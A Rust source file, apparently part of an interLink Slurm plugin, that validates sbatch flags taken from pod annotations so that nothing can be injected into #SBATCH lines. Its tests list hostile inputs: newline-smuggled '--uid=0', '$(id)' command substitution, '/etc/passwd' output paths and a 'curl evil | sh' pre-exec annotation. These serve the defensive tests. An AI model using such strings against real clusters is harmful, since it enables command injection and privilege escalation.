//! Options of `sbatch` that a pod's author may set. They become `#SBATCH` lines, which are comments to the shell and options
//! to Slurm; so an option must be known and allowed, and its value of plain characters in one line.

use std::collections::BTreeMap;

/// The annotation that real users of interLink set.
pub const FLAGS_ANNOTATION: &str = "slurm-job.vk.io/flags";
const PREFIX: &str = "slurm-job.vk.io/";

/// What pods may set unless the site says otherwise: what a job asks for, not whom it is charged to or whom it pushes aside.
pub const ALLOWED_BY_DEFAULT: [&str; 16] = [
    "begin",
    "comment",
    "constraint",
    "cpus-per-task",
    "gpus",
    "gres",
    "hint",
    "job-name",
    "licenses",
    "mem",
    "mem-per-cpu",
    "nice",
    "partition",
    "time",
    "time-min",
    "tmp",
];

/// Long name, short name, whether it has a value. No option about files, environment, mail, users, arrays or several nodes.
const KNOWN: [(&str, Option<char>, bool); 30] = [
    ("account", Some('A'), true),
    ("begin", Some('b'), true),
    ("comment", None, true),
    ("constraint", Some('C'), true),
    ("core-spec", Some('S'), true),
    ("cpus-per-gpu", None, true),
    ("cpus-per-task", Some('c'), true),
    ("deadline", None, true),
    ("exclude", Some('x'), true),
    ("exclusive", None, false),
    ("gpus", Some('G'), true),
    ("gpus-per-node", None, true),
    ("gres", None, true),
    ("gres-flags", None, true),
    ("hint", None, true),
    ("job-name", Some('J'), true),
    ("licenses", Some('L'), true),
    ("mem", None, true),
    ("mem-per-cpu", None, true),
    ("mem-per-gpu", None, true),
    ("nice", None, true),
    ("nodelist", Some('w'), true),
    ("oversubscribe", Some('s'), false),
    ("partition", Some('p'), true),
    ("priority", None, true),
    ("qos", Some('q'), true),
    ("reservation", None, true),
    ("time", Some('t'), true),
    ("time-min", None, true),
    ("tmp", None, true),
];

/// Longest value of an option.
const MAX_VALUE: usize = 256;
/// Longest annotation that is read.
const MAX_TEXT: usize = 4_096;

/// An option by its long name; no value: it has none.
pub type Flag = (String, Option<String>);

pub fn is_known(long: &str) -> bool {
    KNOWN.iter().any(|(name, ..)| *name == long)
}

/// Characters that mean themselves to Slurm, and nothing to a shell's comment.
pub fn is_plain(value: &str) -> bool {
    let first = |c: char| c.is_ascii_alphanumeric() || "[(&|*".contains(c);
    let inner = |c: char| c.is_ascii_alphanumeric() || "_.,:/@+=*[]()&|-".contains(c);
    !value.is_empty() && value.len() <= MAX_VALUE && value.starts_with(first) && value.chars().all(inner)
}

/// The flags that a pod's annotations ask for.
pub fn of_pod(annotations: &BTreeMap<String, String>, allowed: &[String]) -> Result<Vec<Flag>, String> {
    for (name, value) in annotations {
        let rest = match name.strip_prefix(PREFIX) {
            Some(rest) if !value.trim().is_empty() => rest,
            _ => continue,
        };
        match rest {
            "flags" => {}
            // They concern container programs of the batch node, of which this site uses none.
            "image-root" | "singularity-options" | "singularity-mounts" | "enroot-options" | "enroot-mounts" => {}
            other => return Err(format!("annotation {PREFIX}{other} is not allowed at this site")),
        }
    }
    let Some(text) = annotations.get(FLAGS_ANNOTATION) else { return Ok(Vec::new()) };
    let wrong = |why: String| format!("annotation {FLAGS_ANNOTATION}: {why}");
    if text.len() > MAX_TEXT {
        return Err(wrong(format!("it is longer than {MAX_TEXT} characters")));
    }
    if text.chars().any(char::is_control) {
        return Err(wrong("it contains a line break or another control character".into()));
    }
    let words = shell_words::split(text).map_err(|error| wrong(error.to_string()))?;
    read_words(&words, Some(allowed)).map_err(wrong)
}

/// Reads options as `sbatch` would. `allowed`: the long names that may be set; none: all that are known.
pub fn read_words(words: &[String], allowed: Option<&[String]>) -> Result<Vec<Flag>, String> {
    let mut flags = Vec::new();
    let mut rest = words.iter();
    while let Some(word) = rest.next() {
        let (long, has_value, mut value) = find(word)?;
        if allowed.is_some_and(|allowed| !allowed.iter().any(|name| name == long)) {
            return Err(format!("the option --{long} is not allowed at this site"));
        }
        match (has_value, &value) {
            (true, None) => {
                value = Some(rest.next().ok_or_else(|| format!("the option --{long} needs a value"))?.clone())
            }
            (false, Some(_)) => return Err(format!("the option --{long} takes no value here")),
            _ => {}
        }
        if let Some(bad) = value.as_deref().filter(|value| !is_plain(value)) {
            return Err(format!("the value {bad:?} of --{long} has characters that are not allowed"));
        }
        flags.push((long.to_owned(), value));
    }
    Ok(flags)
}

/// The option that a word names, whether it has a value, and the value if it is in the same word.
fn find(word: &str) -> Result<(&'static str, bool, Option<String>), String> {
    let unknown = || format!("{word:?} is not an option that pods can set");
    if let Some(long) = word.strip_prefix("--") {
        let (name, value) = match long.split_once('=') {
            Some((name, value)) => (name, Some(value.to_owned())),
            None => (long, None),
        };
        let known = KNOWN.iter().find(|(known, ..)| *known == name).ok_or_else(unknown)?;
        return Ok((known.0, known.2, value));
    }
    let mut letters = word.strip_prefix('-').ok_or_else(unknown)?.chars();
    let letter = letters.next().ok_or_else(unknown)?;
    let known = KNOWN.iter().find(|(_, short, _)| *short == Some(letter)).ok_or_else(unknown)?;
    let value = Some(letters.as_str().to_owned()).filter(|value| !value.is_empty());
    Ok((known.0, known.2, value))
}

/// Puts flags together: later ones replace earlier ones of the same name, in the order in which names first came.
pub fn merged(layers: impl IntoIterator<Item = Flag>) -> Vec<Flag> {
    let mut all: Vec<Flag> = Vec::new();
    for (name, value) in layers {
        // The job's name is the pod's UID; what people would like to read in the queue goes beside it.
        let name = if name == "job-name" { "comment".to_owned() } else { name };
        match all.iter_mut().find(|(known, _)| *known == name) {
            Some(known) => known.1 = value,
            None => all.push((name, value)),
        }
    }
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(text: &str) -> Result<Vec<Flag>, String> {
        let allowed: Vec<String> = ALLOWED_BY_DEFAULT.iter().map(|flag| (*flag).to_owned()).collect();
        of_pod(&BTreeMap::from([(FLAGS_ANNOTATION.to_owned(), text.to_owned())]), &allowed)
    }

    fn flag(name: &str, value: &str) -> Flag {
        (name.to_owned(), Some(value.to_owned()))
    }

    #[test]
    fn reads_what_users_write() {
        let flags = read("--job-name=x -t 2800 -pgpu --gres=gpu:1 --mem '4G' -C \"a100&nvme\"").expect("flags");
        let wanted = [
            flag("job-name", "x"),
            flag("time", "2800"),
            flag("partition", "gpu"),
            flag("gres", "gpu:1"),
            flag("mem", "4G"),
            flag("constraint", "a100&nvme"),
        ];
        assert_eq!(flags, wanted);
        assert_eq!(read(""), Ok(Vec::new()));
        let both = merged([flag("time", "1"), flag("job-name", "n"), flag("time", "2")]);
        assert_eq!(both, [flag("time", "2"), flag("comment", "n")]);
    }

    #[test]
    fn refuses_the_rest_and_names_the_annotation() {
        for hostile in [
            "--time=1\n#SBATCH --uid=0",
            "--time=1\r--uid=0",
            "--uid=0",
            "--wrap=id",
            "--export=ALL",
            "--output=/etc/passwd",
            "-o/etc/passwd",
            "--account=rich",
            "--chdir=/",
            "--nodes=2",
            "--array=1-1000",
            "--time=$(id)",
            "--time=`id`",
            "--comment=a;b",
            "--comment='a b'",
            "--comment=%j",
            "--time",
            "--time=",
            "id",
            "-",
            "--",
            "--partition=-A",
            "'unfinished",
            "hetjob",
            "--time=1 : --uid=0",
            &"-t1 ".repeat(2_000),
        ] {
            let error = read(hostile).expect_err(hostile);
            assert!(error.contains(FLAGS_ANNOTATION), "{error}");
        }
        let pre = BTreeMap::from([("slurm-job.vk.io/pre-exec".to_owned(), "curl evil | sh".to_owned())]);
        assert!(of_pod(&pre, &[]).expect_err("refused").contains("slurm-job.vk.io/pre-exec"));
    }
}
